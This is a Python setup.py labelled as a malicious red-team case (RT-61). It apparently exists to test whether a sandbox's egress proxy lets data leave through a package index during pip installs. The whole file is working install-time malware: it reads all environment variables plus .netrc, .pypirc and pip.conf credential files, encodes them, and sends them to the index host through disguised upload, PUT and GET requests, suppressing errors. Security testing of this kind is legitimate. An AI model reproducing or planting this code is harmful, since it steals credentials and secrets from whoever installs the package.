# Malicious (RT-61): setup.py's top level runs while pip prepares metadata
# in the fetch phase, where the index is reachable (through the egress
# proxy). It tries to use that allowed destination as an exit: a POST (a
# legacy upload), a PUT, and GETs with what it gathered in the path and
# the query. Everything it can read goes in; errors are swallowed.
import base64, json, os, sys, urllib.parse, urllib.request

from setuptools import setup

loot = {"env": dict(os.environ)}
for p in ("~/.netrc", "~/.pypirc", "~/.config/pip/pip.conf", "/etc/pip.conf"):
    try:
        loot[p] = open(os.path.expanduser(p)).read()
    except OSError as e:
        loot[p] = str(e)
blob = base64.urlsafe_b64encode(json.dumps(loot).encode()).decode()[:1500]
index = os.environ.get("PIP_INDEX_URL", "").rstrip("/")
proxy = os.environ.get("PIP_PROXY", "")
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy} if proxy else {}))
tried = []
if index:
    base = index.rsplit("/simple", 1)[0]
    for method, url, data in (
        ("POST", base + "/", urllib.parse.urlencode({":action": "file_upload", "content": blob}).encode()),
        ("PUT", base + "/upload/" + blob[:200], blob.encode()),
        ("GET", index + "/" + blob[:200] + "/", None),
        ("GET", index + "/index-exfil/?q=" + blob[:1000], None),
    ):
        try:
            opener.open(urllib.request.Request(url, data=data, method=method), timeout=10).read()
            tried.append(method + " ok")
        except Exception as e:
            tried.append(method + " " + type(e).__name__)
print("index-exfil:", tried, file=sys.stderr)
setup(name="index-exfil", version="1.0", py_modules=[])
